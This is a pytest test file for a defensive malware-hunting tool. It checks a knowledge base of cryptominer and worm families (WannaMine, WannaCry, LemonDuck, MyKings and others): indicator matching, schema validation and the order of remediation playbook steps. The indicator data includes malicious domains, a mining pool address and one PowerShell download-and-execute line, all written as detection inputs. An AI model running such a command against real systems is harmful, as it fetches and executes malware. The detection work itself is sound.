"""The family knowledge base: every shipped file loads and is well formed, the schema rejects
malformed files with the file and key named, and the key indicators match what they should (and
only that)."""

from __future__ import annotations

import itertools
from importlib.resources import files
from pathlib import Path

import pytest
import yaml

from wormhunt.intel.families import STEP_ACTIONS, builtin_families, load_families
from wormhunt.knowledge import KnowledgeError

FAMILY_DIR = files("wormhunt.knowledge").joinpath("families")
SHIPPED = {
    "wannamine3",
    "wannamine2",
    "wannamine4",
    "wannamine_fileless",
    "wannacry",
    "dtlminer",
    "lemonduck",
    "mykings",
    "indexsinas",
    "wnsrvminer",
}


def family(fid: str):
    return next(f for f in builtin_families() if f.id == fid)


def indicator(fid: str, iid: str):
    return next(i for i in family(fid).indicators if i.id == iid)


# -- the shipped files ----------------------------------------------------------------------


def test_every_family_is_shipped_and_ids_equal_file_names():
    stems = {e.name.removesuffix(".yaml") for e in FAMILY_DIR.iterdir() if e.name.endswith(".yaml")}
    assert stems == SHIPPED
    assert {f.id for f in builtin_families()} == SHIPPED


@pytest.mark.parametrize("fid", sorted(SHIPPED))
def test_family_is_well_formed(fid):
    f = family(fid)
    for lang in ("en", "zh-CN"):
        assert f.names[lang].strip() and f.summary[lang].strip()
    assert any(i.weight >= 0.8 for i in f.indicators), "needs at least one strong indicator"
    assert all(0 < i.weight <= 1 for i in f.indicators)
    assert f.playbook
    for step in f.playbook:
        assert step.action in STEP_ACTIONS
        assert step.text["en"].strip() and step.text["zh-CN"].strip()
    used = {i.source for i in f.indicators} | {s.source for s in f.playbook}
    assert used <= set(f.sources)
    assert set(f.related) <= SHIPPED - {fid}
    assert len({i.id for i in f.indicators}) == len(f.indicators)


@pytest.mark.parametrize("fid", sorted(SHIPPED))
def test_notes_are_bilingual(fid):
    for i in family(fid).indicators:
        if i.note:
            assert set(i.note) == {"en", "zh-CN"}, i.id


def test_generic_indicators_weigh_little():
    for f in builtin_families():
        for i in f.indicators:
            if i.type == "port" and str(i.value) == "445":
                assert i.weight <= 0.3, f.id
            if "xmrig" in str(i.value).lower() or i.type == "signature":
                assert i.weight < 0.3, f.id


def test_fileless_family_kills_scripts_before_removing_wmi():
    for f in builtin_families():
        actions = [s.action for s in f.playbook]
        if "kill_scripts" in actions and "remove_wmi" in actions:
            assert actions.index("kill_scripts") < actions.index("remove_wmi"), f.id
    actions = [s.action for s in family("wannamine_fileless").playbook]
    assert actions.index("kill_scripts") < actions.index("remove_wmi")


# -- key indicators ---------------------------------------------------------------------------


def test_wannamine3_directory_matches_files_under_it():
    workdir = indicator("wannamine3", "workdir")
    assert workdir.type == "directory"
    assert workdir.matches(r"%windir%\AppDiagnostics\svchost.exe")
    assert workdir.matches(r"C:\WINDOWS\appdiagnostics\x86.dll")
    assert workdir.matches(r"C:\Windows\AppDiagnostics")
    assert not workdir.matches(r"C:\Windows\AppDiagnosticsOld\svchost.exe")
    assert not workdir.matches(r"C:\Windows\System32\svchost.exe")


def test_wannamine3_core_indicators():
    assert indicator("wannamine3", "service").matches("SNMPSTORSRV")
    assert indicator("wannamine3", "service").weight >= 0.9
    assert indicator("wannamine3", "container_name").matches("marstracediagnostics.xml")
    assert indicator("wannamine3", "service_dll").matches(r"%SystemRoot%\SysWOW64\snmpstorsrv.dll")
    assert indicator("wannamine3", "dll_md5").matches("42a12de5a2b8cff827407877dbd66b16")
    task = indicator("wannamine3", "task")
    assert task.matches(r"\UPnPHostServices") and task.matches("UPnPHostServices")
    assert not task.matches(r"\UPnPHostServicesX")
    assert indicator("wannamine3", "service_key").matches(
        r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\snmpstorsrv\Parameters"
    )


def test_wannamine3_playbook_follows_the_recommended_order():
    steps = family("wannamine3").playbook
    actions = [s.action for s in steps]
    assert actions == [
        "contain",
        "collect",
        "disable_task",
        "disable_service",
        "stop_service",
        "kill_service_tree",
        "kill_process",
        "delete_service",
        "quarantine",
        "patch",
        "reboot",
        "verify",
    ]
    pos = actions.index
    assert pos("disable_task") < pos("stop_service") < pos("delete_service") < pos("quarantine")
    kill = steps[pos("kill_process")]
    assert any("AppDiagnostics" in t for t in kill.targets) and "TrustedHostex.exe" in kill.targets
    quarantine = [t.rsplit("\\", 1)[-1] for t in steps[pos("quarantine")].targets]
    assert quarantine == ["snmpstorsrv.dll", "TrustedHostex.exe", "MarsTraceDiagnostics.xml", "AppDiagnostics"]


WORDS = (
    ["Windows", "Microsoft", "Network", "Remote", "Function", "Secure", "Application"],
    ["Update", "Time", "NetBIOS", "RPC", "Protocol", "SSDP", "UPnP"],
    ["Service", "Host", "Client", "Event", "Manager", "Helper", "System"],
)


def test_wannamine4_service_regex():
    rx = indicator("wannamine4", "service_name")
    assert rx.type == "service_name" and rx.match == "regex"
    for name in ("WindowsUpdateService", "RemoteRPCHelper", "ApplicationUPnPSystem"):
        assert rx.matches(name), name
    assert all(rx.matches("".join(words)) for words in itertools.product(*WORDS))
    for name in ("wuauserv", "Spooler", "WinRM", "WindowsUpdateServiceX", "XWindowsUpdateService", "WinDefend"):
        assert not rx.matches(name), name
    dll = indicator("wannamine4", "service_dll")
    assert dll.matches(r"C:\Windows\SysWOW64\NetworkRPCHost.dll")
    assert not dll.matches(r"C:\Windows\System32\wuaueng.dll")


def test_wannamine4_other_indicators():
    assert indicator("wannamine4", "workdir").matches(r"C:\Windows\NetworkDistribution\svchost.exe")
    assert indicator("wannamine4", "miner_process").matches("dllhostex.exe")
    assert indicator("wannamine4", "last_backup").matches(
        r"HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\NetworkPlatform\Location Awareness\LastBackup"
    )


def test_fileless_wmi_indicators_spare_the_builtin_scm_binding():
    wmi = [i for i in family("wannamine_fileless").indicators if i.type.startswith("wmi_")]
    assert wmi
    for legit in ("SCM Event Log Filter", "SCM Event Log Consumer", "Win32_Service", r"root\cimv2:Win32_Service"):
        assert not any(i.matches(legit) for i in wmi), legit
    for bad in (
        "DSM Event Log Filter",
        "DSM Event Log Consumer",
        "SCM Events Log Filter",
        "SCM Events Log Consumer",
        "SCM Event1 Log Filter",
        "SCM Event12 Log Consumer",
        r"root\default:Win32_Services",
        r"root\default:systemcore_Updater8",
    ):
        assert any(i.matches(bad) for i in wmi), bad


def test_other_families_key_indicators():
    assert indicator("wannacry", "service").matches("mssecsvc2.0")
    assert indicator("wannacry", "mutex").matches(r"Global\MsWinZonesCacheCounterMutexA")
    assert indicator("wannacry", "encrypted_ext").matches("report.docx.WNCRY")
    assert indicator("dtlminer", "proc_drivers").matches(r"C:\Windows\SysWOW64\drivers\taskmgr.exe")
    assert indicator("dtlminer", "dom_beahh").matches("v.beahh.com")
    assert indicator("dtlminer", "dom_beahh").matches(
        "IEX (New-Object Net.WebClient).downloadstring('http://v.beahh.com/v')"
    )
    assert not indicator("dtlminer", "dom_beahh").matches("notbeahh.com")
    assert indicator("lemonduck", "task_marker").matches(r"\blackball")
    assert indicator("lemonduck", "pool_zer2").matches("stratum+tcp://lpp.zer2.com:443")
    assert indicator("mykings", "wmi_names").matches("fuckyoumm2_filter")
    assert indicator("mykings", "csrw").matches(r"C:\Program Files (x86)\Common Files\csrw.exe")
    assert indicator("indexsinas", "svc_maims").matches("MicrosotMaims")
    assert indicator("wnsrvminer", "workdir").matches(r"C:\Windows\security\IIS\mance.exe")


# -- the schema rejects malformed files --------------------------------------------------------


def minimal(fid: str) -> dict:
    return {
        "id": fid,
        "names": {"en": "Test", "zh-CN": "测试"},
        "kind": "miner",
        "summary": {"en": "A test family.", "zh-CN": "测试家族。"},
        "sources": {"S-T": "a test source"},
        "indicators": [
            {"id": "svc", "type": "service_name", "value": "testsvc", "weight": 0.9, "confidence": "C", "source": "S-T"}
        ],
        "playbook": [
            {"action": "verify", "text": {"en": "Check.", "zh-CN": "检查。"}, "confidence": "I", "source": "S-T"}
        ],
    }


def write(tmp_path: Path, stem: str, data: dict) -> Path:
    path = tmp_path / f"{stem}.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def test_user_directory_adds_a_family(tmp_path):
    write(tmp_path, "testfam", minimal("testfam"))
    loaded = {f.id: f for f in load_families([tmp_path])}
    assert set(loaded) >= SHIPPED
    assert loaded["testfam"].indicators[0].matches("TESTSVC")


def test_user_file_with_a_builtin_id_replaces_it(tmp_path):
    write(tmp_path, "wannacry", minimal("wannacry"))
    loaded = {f.id: f for f in load_families([tmp_path])}
    assert loaded["wannacry"].names["en"] == "Test"


def _missing_key(d):
    del d["kind"]


def _unknown_type(d):
    d["indicators"][0]["type"] = "colour"


def _bad_regex(d):
    d["indicators"][0].update(match="regex", value="snmp(stor")


def _undeclared_source(d):
    d["indicators"][0]["source"] = "S-NOPE"


def _undeclared_step_source(d):
    d["playbook"][0]["source"] = "S-NOPE"


def _duplicate_id(d):
    d["indicators"].append(dict(d["indicators"][0], value="other"))


def _zero_weight(d):
    d["indicators"][0]["weight"] = 0


def _big_weight(d):
    d["indicators"][0]["weight"] = 1.5


def _unknown_action(d):
    d["playbook"][0]["action"] = "format_disk"


def _one_language(d):
    d["summary"] = {"en": "English only"}


@pytest.mark.parametrize(
    ("mutate", "key"),
    [
        (_missing_key, "'kind'"),
        (_unknown_type, "indicators[0].type"),
        (_bad_regex, "indicators[0].value"),
        (_undeclared_source, "indicators[0].source"),
        (_undeclared_step_source, "playbook[0].source"),
        (_duplicate_id, "indicators[1].id"),
        (_zero_weight, "indicators[0].weight"),
        (_big_weight, "indicators[0].weight"),
        (_unknown_action, "playbook[0].action"),
        (_one_language, "summary"),
    ],
)
def test_schema_rejects(tmp_path, mutate, key):
    data = minimal("broken")
    mutate(data)
    path = write(tmp_path, "broken", data)
    with pytest.raises(KnowledgeError) as exc:
        load_families([tmp_path])
    message = str(exc.value)
    assert str(path) in message
    assert key in message


def test_schema_rejects_an_id_that_differs_from_the_file_name(tmp_path):
    path = write(tmp_path, "broken", minimal("something_else"))
    with pytest.raises(KnowledgeError) as exc:
        load_families([tmp_path])
    assert str(path) in str(exc.value) and ".id" in str(exc.value) and "'broken'" in str(exc.value)
